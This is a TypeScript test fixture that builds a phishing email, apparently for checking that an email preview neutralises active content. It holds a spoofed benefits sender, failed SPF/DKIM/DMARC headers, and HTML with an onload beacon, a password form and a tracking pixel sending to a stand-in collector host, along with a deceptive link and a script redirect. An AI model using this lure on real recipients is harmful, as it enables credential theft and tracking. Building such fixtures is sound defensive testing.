export const waveSender = 'benefits@harbour-pine-benefits.example'
export const waveSubject = 'Your “benefits” & pension #2027: confirm by 17:00'

/** A lure of our own, with all that must not work in a preview: a script, a form, a pixel, a link that lies. */
export function waveMail(recipient: string, receivedAt: Date, subject = waveSubject): string {
  const html = [
    '<html><body onload="fetch(\'https://collect.harbour-pine-benefits.example/seen\')">',
    '<p>Dear colleague, please confirm your benefits today.</p>',
    '<p><a href="https://portal.harbour-pine-benefits.example/confirm?u=1">https://intranet.harbourpine.example/benefits</a></p>',
    '<form action="https://collect.harbour-pine-benefits.example/"><input name="password" type="password"></form>',
    '<img src="https://collect.harbour-pine-benefits.example/pixel.gif" width="1" height="1">',
    '<script>top.location = "https://collect.harbour-pine-benefits.example/"</script>',
    '</body></html>',
  ].join('\r\n')
  return [
    `Received: from mx.harbour-pine-benefits.example (203.0.113.77) by mail.harbourpine.example; ${receivedAt.toUTCString()}`,
    'Authentication-Results: mail.harbourpine.example; spf=fail smtp.mailfrom=harbour-pine-benefits.example; dkim=none; dmarc=fail',
    `From: "Harbour & Pine Benefits" <${waveSender}>`,
    `To: <${recipient}>`,
    `Subject: =?utf-8?B?${Buffer.from(subject).toString('base64')}?=`,
    `Date: ${receivedAt.toUTCString()}`,
    `Message-ID: <${subject.replaceAll(/\W+/g, '-')}@harbour-pine-benefits.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '',
  ].join('\r\n')
}
